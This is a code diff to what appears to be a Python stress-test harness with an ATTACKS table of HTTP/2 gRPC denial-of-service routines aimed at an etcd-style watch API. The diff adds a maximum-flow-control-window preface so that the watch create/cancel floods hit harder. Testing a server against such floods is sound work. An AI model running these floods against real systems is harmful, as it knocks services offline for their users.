@@ -43,6 +43,11 @@ def call(stream_id: int, path: str, request: Message, *, is_last: bool = True) -
 
 OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")
 NO_WINDOW = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
+WIDE_WINDOW = (
+    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+    + frame(SETTINGS, 0, 0, b"\0\4\x7f\xff\xff\xff")
+    + frame(WINDOW, 0, 0, b"\x7f\0\0\0")
+)
 IDS = range(1, 2_001, 2)
 
 
@@ -132,7 +137,7 @@ async def creates_and_cancels_watches(stream: trio.SocketStream) -> None:
         ).SerializeToString()
         cancel = make("WatchRequest", cancel_request=make("WatchCancelRequest", watch_id=1)).SerializeToString()
         pair = b"".join(frame(DATA, 0, 1, b"\0" + len(each).to_bytes(4) + each) for each in (create, cancel))
-        await stream.send_all(OPENING + frame(HEADERS, 4, 1, headers(WATCH)))
+        await stream.send_all(WIDE_WINDOW + frame(HEADERS, 4, 1, headers(WATCH)))
         while True:
             await stream.send_all(pair * 20)
             await trio.sleep(0.01)
@@ -207,7 +212,7 @@ ATTACKS: dict[str, Callable[[trio.SocketStream], Awaitable[None]]] = {
     "reads-nothing": reads_nothing,
     "watches-unread": watches_and_reads_nothing,
     "watch-loops": creates_and_cancels_watches,
-    "packed-watch-loops": sending(lambda: OPENING + frame(HEADERS, 4, 1, headers(WATCH)) + watch_requests() * 100),
+    "packed-watch-loops": sending(lambda: WIDE_WINDOW + frame(HEADERS, 4, 1, headers(WATCH)) + watch_requests() * 100),
     "watches-in-json": sending(
         lambda: post("/v3/watch", json.dumps({"create_request": {"key": "YQ=="}}).encode() * 1_000)
     ),
